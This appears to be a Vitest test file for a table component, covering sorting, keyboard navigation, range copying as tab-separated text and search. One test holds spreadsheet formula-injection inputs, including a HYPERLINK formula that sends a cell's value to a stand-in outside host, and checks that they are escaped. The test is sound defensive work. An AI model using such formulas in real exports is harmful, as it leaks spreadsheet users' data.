import { describe, expect, it } from 'vitest'
import { search } from '#shared/search.ts'
import { asLines, numberColumn, sortRows, textColumn } from '#shared/table/columns.ts'
import { Table } from '#shared/table/table.svelte.ts'

interface Row {
  name: string
  price: number | null
}
const rows: Row[] = [
  { name: 'Item 10', price: 5 },
  { name: 'Item 9', price: null },
  { name: 'Äpfel', price: 20 },
]
const columns = [
  textColumn<Row>('name', 'Name', (row) => row.name),
  numberColumn<Row>('price', 'Price', (row) => row.price, String),
]
const collator = new Intl.Collator('de', { numeric: true })
const names = (list: readonly Row[]) => list.map((row) => row.name)
const tableOf = (open?: (row: Row) => void) =>
  new Table<Row>({ rows: () => rows, columns: () => columns, language: () => 'de', open })
const key = (name: string, more: Partial<KeyboardEvent> = {}) =>
  ({ key: name, shiftKey: false, ctrlKey: false, metaKey: false, ...more }) as KeyboardEvent

describe('sorting', () => {
  it('sorts words as the language does, and numbers within them as numbers', () => {
    expect(names(sortRows(rows, columns, { key: 'name', descending: false }, collator))).toEqual([
      'Äpfel',
      'Item 9',
      'Item 10',
    ])
  })

  it('keeps what has no value at the end in both directions', () => {
    const sorted = (descending: boolean) => names(sortRows(rows, columns, { key: 'price', descending }, collator))
    expect(sorted(false)).toEqual(['Item 10', 'Äpfel', 'Item 9'])
    expect(sorted(true)).toEqual(['Äpfel', 'Item 10', 'Item 9'])
  })

  it('turns, and then leaves the order as it came', () => {
    const table = tableOf()
    table.sortBy('price')
    table.sortBy('price')
    expect(table.sorting?.descending).toBe(true)
    table.sortBy('price')
    expect(table.view).toBe(rows)
  })
})

it('selects nothing once the row is no longer marked, and goes on from there', () => {
  const table = tableOf()
  table.moveTo(1)
  table.unselect()
  expect(rows.map((_, at) => table.isSelected(at))).toEqual([false, false, false])
  expect(table.copied()).toBe('')
  table.onKey(key('ArrowDown'), 5)
  expect(rows.map((_, at) => table.isSelected(at))).toEqual([false, false, true])
})

describe('the keyboard', () => {
  it('moves, stays within the rows, and opens', () => {
    const opened: string[] = []
    const table = tableOf((row) => opened.push(row.name))
    table.onKey(key('ArrowUp'), 5)
    expect(table.cursor).toBe(0)
    table.onKey(key('PageDown'), 5)
    expect(table.cursor).toBe(2)
    table.onKey(key('ArrowDown'), 5)
    expect(table.cursor).toBe(2)
    table.onKey(key('Home'), 5)
    table.onKey(key('Enter'), 5)
    expect(opened).toEqual(['Item 10'])
  })

  it('selects a range and copies it for a spreadsheet', () => {
    const table = tableOf()
    expect(table.copied()).toBe('')
    table.moveTo(0)
    table.onKey(key('ArrowDown', { shiftKey: true }), 5)
    expect([0, 1, 2].map((at) => table.isSelected(at))).toEqual([true, true, false])
    expect(table.copied()).toBe('Name\tPrice\nItem 10\t5\nItem 9\t–')
    table.onKey(key('a', { ctrlKey: true }), 5)
    expect(table.copied().split('\n')).toHaveLength(4)
  })

  it('leaves other keys alone', () => {
    expect(tableOf().onKey(key('x'), 5)).toBe(false)
  })
})

it('keeps tabs and line ends out of copied cells', () => {
  expect(asLines([{ name: 'a\tb\nc', price: 1 }], columns)).toBe('Name\tPrice\na b c\t1')
})

it('lets no spreadsheet take a copied text for a formula', () => {
  const copied = (name: string, price = 1) => asLines([{ name, price }], columns).split('\n')[1]
  expect(copied('=HYPERLINK("https://x.example/"&A1)')).toBe(`'=HYPERLINK("https://x.example/"&A1)\t1`)
  expect(copied('\n@SUM(A1)')).toBe(`' @SUM(A1)\t1`)
  expect(copied('-5', -5)).toBe('-5\t-5')
  expect(copied('"=HYPERLINK(A1)"')).toBe('"""=HYPERLINK(A1)"""\t1') // a spreadsheet takes quotes away
  expect(copied('"Adler" 9 mm')).toBe('"""Adler"" 9 mm"\t1') // a lone quote would swallow the rows below
})

it('finds each word of a query anywhere', () => {
  const rows = ['Kleiner Laster 4x4', 'Bus']
  expect(search(rows, ' LASTER klein', (row) => row)).toEqual(['Kleiner Laster 4x4'])
  expect(search(rows, 'zug', (row) => row)).toEqual([])
  expect(search(rows, '  ', (row) => row)).toBe(rows)
})

it('asks each row once for what it is sorted by, however often it is compared', () => {
  let asked = 0
  const many = Array.from({ length: 1000 }, (_, at) => ({
    price: at,
    get name() {
      asked++
      return `Item ${(at * 7919) % 1000}`
    },
  }))
  sortRows(many, columns, { key: 'name', descending: true }, collator)
  expect(asked).toBe(1000)
})

it('keeps rows of a higher rank before the others, each part in the order that was chosen', () => {
  const isItem = (row: Row) => Number(row.name !== 'Äpfel')
  const rankOf = (row: Row) => isItem(row) + Number(row.name === 'Item 10')
  const table = new Table<Row>(
    { rows: () => rows, columns: () => columns, language: () => 'de', first: () => rankOf },
    { key: 'name', descending: false },
  )
  expect(names(table.view)).toEqual(['Item 10', 'Item 9', 'Äpfel'])
})
